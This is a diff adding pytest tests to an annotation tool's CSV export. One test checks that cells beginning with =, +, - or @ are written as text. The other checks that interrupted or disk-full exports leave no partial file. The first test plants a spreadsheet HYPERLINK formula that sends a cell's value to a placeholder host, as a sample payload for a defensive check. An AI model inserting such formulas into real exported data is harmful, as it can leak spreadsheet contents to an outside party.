@@ -151,3 +151,45 @@ def test_csv_lists_every_patch_with_reviewers_and_model(imported, users, tmp_pat
     assert rows[2]["reviewers"] == "" and rows[2]["model_version"] == ""
     job = ExportJob.objects.get(kind=ExportJob.Kind.CSV)
     assert list(job.files) == ["table.csv"] and job.counts["rows"] == len(patches)
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(imported, tmp_path):
+    """CSV injection: names come from the imported dataset, and a cell starting with = (or
+    +, -, @) is a formula to Excel or LibreOffice. Such cells get a leading apostrophe."""
+    patch = Patch.objects.filter(project=imported).order_by("id").first()
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    Patch.objects.filter(pk=patch.pk).update(image_name=hostile)
+    LabelClass.objects.filter(pk=patch.current_label_id).update(name="@SUM(1+1)")
+    out = tmp_path / "table.csv"
+    call_command("export_csv", "--project", imported.slug, "--out", str(out),
+                 stdout=io.StringIO())
+    with open(out, encoding="utf-8", newline="") as handle:
+        rows = {int(r["patch_id"]): r for r in csv.DictReader(handle)}
+    assert rows[patch.pk]["image_name"] == "'" + hostile
+    assert rows[patch.pk]["current_label"] == "'@SUM(1+1)"
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values())
+
+
+def test_a_csv_export_stopped_part_way_leaves_no_file(imported, tmp_path, monkeypatch):
+    from annotations.exporting import ExportError, export_csv
+    from annotations.lifecycle import JobCancelled
+
+    monkeypatch.setattr("annotations.exporting.table.batched",
+                        lambda rows, size: ([row] for row in rows))  # a group per row
+
+    def cancel(done, total, unit):
+        if done == 3:
+            raise JobCancelled
+
+    out = tmp_path / "table.csv"
+    with pytest.raises(JobCancelled):
+        export_csv(imported, out, progress=cancel)
+    assert not out.exists()
+
+    def fill_up(done, total, unit):
+        if done == 3:
+            raise OSError(errno.ENOSPC, "No space left on device")
+
+    with pytest.raises(ExportError, match=f"writing {out} failed: No space left on device"):
+        export_csv(imported, out, progress=fill_up)
+    assert not out.exists()
